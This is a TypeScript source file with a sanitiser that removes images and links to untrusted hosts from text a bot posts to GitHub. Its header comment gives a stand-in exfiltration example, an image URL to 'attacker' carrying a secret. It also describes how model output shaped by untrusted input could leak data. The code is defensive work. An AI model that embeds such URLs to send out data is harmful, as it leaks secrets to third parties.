/**
 * Text devbot posts where people read it (a PR body, a comment, a check run) was written by a model
 * that read untrusted text. An image there is fetched by every reader's browser as soon as the page
 * shows it, so `![](https://attacker/?d=<secret>)` would carry data out with no click at all; a
 * link is one click away from the same. Both are kept only when they point at a host devbot trusts
 * (GitHub itself, devbot's own URLs); anything else becomes plain text that says what was removed.
 */

/** `hosts` are bare host names (`github.com`); subdomains of each are allowed too. */
export function neutraliseLinks(text: string, hosts: readonly string[]): string {
  const allowed = (url: string): boolean => {
    const trimmed = url.trim().replace(/^<|>$/g, '');
    // Relative links (`#12`, `../x`) stay on the page's own host.
    if (!/^[a-z][a-z0-9+.-]*:/i.test(trimmed) && !trimmed.startsWith('//')) return true;
    let host: string;
    try {
      const parsed = new URL(trimmed.startsWith('//') ? `https:${trimmed}` : trimmed);
      if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') return false;
      host = parsed.hostname.toLowerCase();
    } catch {
      return false;
    }
    return hosts.some((h) => host === h.toLowerCase() || host.endsWith(`.${h.toLowerCase()}`));
  };
  const hostOf = (url: string) => {
    try {
      return new URL(url.trim().replace(/^<|>$/g, '')).hostname;
    } catch {
      return 'an unknown host';
    }
  };
  return (
    text
      // HTML images and media: removed unless from an allowed host.
      .replace(/<(img|image|video|audio|source|iframe|object|embed)\b[^>]*>/gi, (tag) => {
        const src = /\b(?:src|srcset|data|poster)\s*=\s*["']?([^"'\s>]+)/i.exec(tag)?.[1];
        return src && allowed(src)
          ? tag
          : `[external ${tag.slice(1).split(/[\s>]/)[0]?.toLowerCase()} removed]`;
      })
      // Markdown images, inline and reference style targets.
      .replace(/!\[([^\]]*)\]\(\s*([^)\s]+)[^)]*\)/g, (whole, alt: string, url: string) =>
        allowed(url) ? whole : `[image removed: ${alt || 'external image'} from ${hostOf(url)}]`,
      )
      // Markdown links: the text stays, the target goes.
      .replace(/(?<!!)\[([^\]]*)\]\(\s*([^)\s]+)[^)]*\)/g, (whole, label: string, url: string) =>
        allowed(url) ? whole : `${label} (link to ${hostOf(url)} removed)`,
      )
      // Reference definitions: `[x]: https://attacker/...`.
      .replace(/^\s{0,3}\[([^\]]+)\]:\s*(\S+).*$/gm, (whole, _label: string, url: string) =>
        allowed(url) ? whole : `[reference to ${hostOf(url)} removed]`,
      )
      // HTML links.
      .replace(/<a\b[^>]*\bhref\s*=\s*["']?([^"'\s>]+)[^>]*>/gi, (tag, url: string) =>
        allowed(url) ? tag : '<a>',
      )
  );
}
